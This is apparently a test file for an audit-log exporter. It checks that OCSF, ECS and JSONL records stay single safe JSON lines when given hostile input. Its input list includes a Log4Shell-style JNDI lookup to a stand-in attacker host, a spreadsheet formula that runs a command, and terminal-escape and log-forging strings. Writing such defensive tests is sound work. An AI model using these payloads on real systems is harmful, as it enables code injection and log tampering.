import fc from "fast-check"
import { describe, expect, it } from "vitest"
import { ecsFaults } from "../../../test/exporting/ecs-faults.ts"
import { ocsfFaults } from "../../../test/exporting/ocsf-faults.ts"
import { ada, details, sampleEvent, scope } from "../../../test/exporting/sample-events.ts"
import type { Address } from "../addresses/canonical-address.ts"
import { hashLeaf } from "../tree/hash.ts"
import { ecsRecord } from "./ecs-record.ts"
import { jsonlRecord } from "./jsonl-record.ts"
import { ocsfRecord } from "./ocsf-record.ts"
import { oneLine } from "./one-line.ts"

// What somebody may type as a user agent, and an application may take into its details.
const HOSTILE = [
  "a\r\nforged: line",
  "\u001b[2J\u001b]0;owned\u0007",
  "\u009b2J\u0085next\u2028line\u2029",
  "\u202egnp.exe\u2066",
  ["$", "{jndi:ldap://evil.example/a}"].join(""),
  '"}],{"index":0,"state":"sealed"}\n{"',
  "\\",
  "\u0000",
  "\ufeff",
  "=cmd|' /C calc'!A0",
]
const records = { ocsf: ocsfRecord, ecs: ecsRecord, jsonl: jsonlRecord }
const text = fc.oneof(fc.string({ unit: "binary" }), fc.constantFrom(...HOSTILE))

function isOneHarmlessLine(line: string): boolean {
  return !/[\p{Cc}\u2028-\u202e\u2066-\u2069\ufeff]|\$\{/u.test(line)
}

describe("a line of an export", () => {
  it.each(Object.entries(records))(
    "is one harmless line of JSON as %s, whatever people typed (LOG-5)",
    (_name, write) => {
      fc.assert(
        fc.property(text, text, text, (userAgent, name, value) => {
          const person = { ...ada, address: "ada@example.com" as Address, userAgent }
          const event = sampleEvent("shop.note", { [name]: value }, { person })
          const line = oneLine(write(event, scope))
          expect(isOneHarmlessLine(line), line).toBe(true)
          const plain = JSON.parse(write(event, scope))
          expect(JSON.parse(line)).toEqual(plain)
          expect(JSON.stringify(plain)).toContain(JSON.stringify(userAgent))
        }),
      )
    },
  )

  it("fits its schema whatever a false event of ours says", () => {
    const anything = fc.oneof(fc.jsonValue(), text, fc.constantFrom(-1, 1.5, 2 ** 40, null, true))
    const types = Object.entries(details)
    fc.assert(
      fc.property(
        fc.constantFrom(...types),
        fc.dictionary(text, anything),
        anything,
        ([type, [real = {}]], more, value) => {
          const lied = Object.fromEntries(Object.keys(real).map((name) => [name, value]))
          const event = sampleEvent(type, JSON.parse(JSON.stringify({ ...real, ...lied, ...more })))
          expect(ocsfFaults(JSON.parse(ocsfRecord(event, scope)))).toEqual([])
          expect(ecsFaults(JSON.parse(ecsRecord(event, scope)))).toEqual([])
        },
      ),
    )
  })

  it("of our own holds the very leaf that was hashed", () => {
    fc.assert(
      fc.property(fc.dictionary(text, text), (detail) => {
        const event = sampleEvent("shop.note", detail)
        const line = jsonlRecord(event, scope)
        const leaf = /,"leaf":(\{.*\})\}$/s.exec(line)?.[1] ?? ""
        expect(Buffer.from(hashLeaf(leaf), "latin1").toString("hex")).toBe(JSON.parse(line).hash)
      }),
    )
  })
})
